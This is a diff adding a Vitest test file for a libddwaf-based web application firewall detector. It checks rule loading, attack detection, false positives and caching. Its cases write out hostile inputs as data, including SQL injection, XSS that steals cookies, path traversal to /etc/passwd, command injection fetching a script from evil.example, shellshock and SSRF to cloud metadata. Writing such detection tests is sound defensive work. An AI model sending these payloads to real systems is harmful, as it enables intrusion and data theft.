@@ -1,0 +1,181 @@
+import { afterAll, describe, expect, it } from 'vitest';
+import { Detector, parseCookies, summarize } from '../../src/agent/waf.ts';
+import { headersUsedBy, ruleset, SCANNER_USER_AGENTS } from '../../src/agent/rules/ruleset.ts';
+
+const detector = new Detector();
+afterAll(() => detector.close());
+
+const types = (facts: Parameters<Detector['detect']>[0]) =>
+  detector
+    .detect(facts)
+    .detections.map((d) => `${d.attackType}:${d.severity}`)
+    .sort();
+
+describe('ruleset loaded in libddwaf', () => {
+  it('loads every rule and reads exactly the addresses the agent fills', () => {
+    expect(detector.ruleCount).toBe(ruleset.rules.length);
+    expect([...detector.knownAddresses].sort()).toEqual(
+      [
+        'server.request.body',
+        'server.request.cookies',
+        'server.request.headers.no_cookies',
+        'server.request.path_params',
+        'server.request.query',
+        'server.request.uri.raw',
+      ].sort(),
+    );
+  });
+
+  it('tags every rule with a type and a valid severity, and lists the headers it reads', () => {
+    for (const rule of ruleset.rules) {
+      expect(rule.tags.type).toMatch(/^[a-z_]+$/);
+      expect(['INFO', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL']).toContain(rule.tags.severity);
+    }
+    expect(headersUsedBy(ruleset)).toEqual(new Set(['user-agent', 'referer', 'x-forwarded-for', 'acunetix-product', 'x-scanner', 'x-wipp']));
+  });
+
+  it('rejects a broken ruleset at construction', () => {
+    expect(() => new Detector({ rules: { version: '2.2', rules: [{ id: 'x', name: 'x', tags: { type: 't' }, conditions: [{ operator: 'no_such_op', parameters: {} }] }] } })).toThrow(/ruleset rejected|rules failed/);
+  });
+});
+
+describe('detections', () => {
+  it.each([
+    ['SQL injection in the query', { query: { q: "1' OR '1'='1" } }, 'sql_injection:HIGH'],
+    ['SQL injection (UNION) in a JSON body', { body: { id: '-1 UNION SELECT username, password FROM users--' } }, 'sql_injection:HIGH'],
+    ['SQL injection in a path parameter', { pathParams: { id: "1' OR 1=1--" } }, 'sql_injection:HIGH'],
+    ['SQL injection in a cookie value', { headers: { cookie: "session=abc; pref=1' OR '1'='1" } }, 'sql_injection:HIGH'],
+    ['XSS in the query', { query: { q: '<script>alert(1)</script>' } }, 'xss:MEDIUM'],
+    ['XSS with an event handler in a form body', { body: { comment: '<img src=x onerror=alert(document.cookie)>' } }, 'xss:MEDIUM'],
+    ['XSS in the referer header', { headers: { referer: 'http://x/"><script>alert(1)</script>' } }, 'xss:MEDIUM'],
+    ['path traversal to /etc/passwd', { query: { name: '../../etc/passwd' } }, 'path_traversal:HIGH'],
+    ['path traversal sequence only', { query: { name: '../../../secret/report.pdf' } }, 'path_traversal:MEDIUM'],
+    ['encoded traversal in the raw path', { uri: '/static/%2e%2e/%2e%2e/app/config.js' }, 'path_traversal:MEDIUM'],
+    ['Windows traversal', { query: { f: '..\\..\\windows\\win.ini' } }, 'path_traversal:HIGH'],
+    ['command injection with ;', { body: { host: '8.8.8.8; cat /etc/passwd' } }, 'command_injection:CRITICAL|path_traversal:HIGH'],
+    ['command injection with $()', { query: { host: '$(whoami)' } }, 'command_injection:CRITICAL'],
+    ['command injection with && and a URL', { query: { host: 'x && curl http://evil.example/x.sh' } }, 'command_injection:CRITICAL'],
+    ['command injection with backticks', { query: { name: 'a`id`' } }, 'command_injection:CRITICAL'],
+    ['shellshock in the user agent', { headers: { 'user-agent': '() { :; }; /bin/bash -c "id"' } }, 'command_injection:CRITICAL'],
+    ['SSRF to the cloud metadata endpoint', { query: { url: 'http://169.254.169.254/latest/meta-data/iam/' } }, 'ssrf:HIGH'],
+    ['SSRF with gopher://', { query: { url: 'gopher://127.0.0.1:6379/_FLUSHALL' } }, 'ssrf:HIGH'],
+    ['SSRF with file://', { body: { avatar: 'file:///etc/hosts' } }, 'path_traversal:HIGH|ssrf:HIGH'],
+    ['SSRF to localhost', { query: { url: 'http://localhost:8080/admin' } }, 'ssrf:MEDIUM'],
+    ['SSRF to a private address', { query: { webhook: 'https://10.0.0.12/internal' } }, 'ssrf:MEDIUM'],
+    ['sqlmap user agent', { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }, 'scanner:LOW'],
+    ['Nikto user agent', { headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' } }, 'scanner:LOW'],
+    ['Nmap NSE user agent', { headers: { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' } }, 'scanner:LOW'],
+    ['Nuclei user agent', { headers: { 'user-agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' } }, 'scanner:LOW'],
+    ['WPScan user agent', { headers: { 'user-agent': 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)' } }, 'scanner:LOW'],
+    ['Acunetix header', { headers: { 'acunetix-product': 'WVS/12.0' } }, 'scanner:LOW'],
+  ])('%s', (_name, facts, expected) => {
+    expect(types(facts).join('|')).toBe(expected);
+  });
+
+  it('detects every listed scanner user agent', () => {
+    for (const ua of SCANNER_USER_AGENTS) {
+      expect(types({ headers: { 'user-agent': `Mozilla/5.0 ${ua}/1.0` } }), ua).toEqual(['scanner:LOW']);
+    }
+  });
+
+  it.each([
+    ['hello world', { query: { q: 'hello world' } }],
+    ['normal search terms', { query: { q: 'red running shoes size 42', sort: 'price-asc', page: '2' } }],
+    ['an apostrophe in a name', { query: { q: "O'Reilly books" } }],
+    ['English with ; and &', { query: { q: 'dogs; cat lovers & more' } }],
+    ['a normal path', { uri: '/products/42/reviews', pathParams: { id: '42' } }],
+    ['a file name', { uri: '/files', query: { name: 'report-2024.pdf' } }],
+    ['a relative-looking name', { query: { name: 'v1.2..3' } }],
+    ['a public URL', { query: { url: 'https://example.com/page?x=1' } }],
+    ['a login form with a strange password', { body: { username: 'alice', password: "p@ss'w0rd; --" } }],
+    ['JSON with HTML-ish text', { body: { comment: 'I <3 this product, 5 > 4' } }],
+    [
+      'a browser',
+      {
+        uri: '/search',
+        headers: {
+          'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
+          referer: 'https://shop.example.com/search?q=socks',
+          cookie: 'theme=dark; consent=yes; sid=Zm9vYmFy',
+          accept: 'text/html,application/xhtml+xml',
+        },
+      },
+    ],
+  ])('nothing for %s', (_name, facts) => {
+    expect(types(facts)).toEqual([]);
+  });
+});
+
+describe('time budget and engine behaviour', () => {
+  it('a run over budget is a timeout and counts as no detection', () => {
+    const tight = new Detector({ budgetMicros: 1 });
+    try {
+      const body: Record<string, string> = {};
+      for (let i = 0; i < 200; i++) body[`f${i}`] = `${'x'.repeat(2000)} ${i}`;
+      body.attack = "1' OR '1'='1";
+      const r = tight.detect({ body, query: { q: '<script>alert(1)</script>' } });
+      expect(r.timeout).toBe(true);
+      expect(r.detections).toEqual([]);
+    } finally {
+      tight.close();
+    }
+  });
+
+  it('remembers clean header and cookie values, and still catches an attack in a new value', () => {
+    const d = new Detector();
+    try {
+      const browser = { 'user-agent': 'Mozilla/5.0 Firefox/125.0', cookie: 'theme=dark' };
+      d.detect({ headers: browser });
+      const misses = d.cacheMisses;
+      expect(misses).toBe(2);
+      d.detect({ headers: browser, query: { q: 'socks' } });
+      expect(d.cacheMisses).toBe(misses);
+      expect(d.detect({ headers: { ...browser, cookie: "theme=1' OR '1'='1" } }).detections.map((x) => x.attackType)).toEqual(['sql_injection']);
+      // a value seen in a run that matched is never remembered as clean
+      expect(d.detect({ headers: { ...browser, cookie: "theme=1' OR '1'='1" } }).detections).toHaveLength(1);
+    } finally {
+      d.close();
+    }
+  });
+
+  it('does not cache when a custom ruleset combines conditions', () => {
+    const rules = {
+      version: '2.2',
+      rules: [
+        {
+          id: 'combo',
+          name: 'ua and query together',
+          tags: { type: 'custom', severity: 'LOW' },
+          conditions: [
+            { operator: 'match_regex', parameters: { inputs: [{ address: 'server.request.headers.no_cookies', key_path: ['user-agent'] }], regex: 'curl' } },
+            { operator: 'match_regex', parameters: { inputs: [{ address: 'server.request.query' }], regex: 'admin' } },
+          ],
+        },
+      ],
+    };
+    const d = new Detector({ rules });
+    try {
+      expect(d.detect({ headers: { 'user-agent': 'curl/8' }, query: { q: 'x' } }).detections).toEqual([]);
+      expect(d.detect({ headers: { 'user-agent': 'curl/8' }, query: { q: 'admin' } }).detections.map((x) => x.attackType)).toEqual(['custom']);
+    } finally {
+      d.close();
+    }
+  });
+
+  it('summarize keeps one detection per type at the highest severity', () => {
+    const s = summarize([
+      { rule: { id: 'a', tags: { type: 'ssrf', severity: 'MEDIUM' } } },
+      { rule: { id: 'b', tags: { type: 'ssrf', severity: 'HIGH' } } },
+      { rule: { id: 'c', tags: { type: 'xss', severity: 'bogus' } } },
+      { rule: { id: 'd', tags: {} } },
+    ]);
+    expect(s).toEqual([
+      { attackType: 'ssrf', severity: 'HIGH', rules: ['a', 'b'] },
+      { attackType: 'xss', severity: 'MEDIUM', rules: ['c'] },
+    ]);
+  });
+
+  it('parses cookies', () => {
+    expect(parseCookies('a=1; b="two"; c=%41%42; bad; =x')).toEqual({ a: '1', b: 'two', c: 'AB' });
+  });
+});
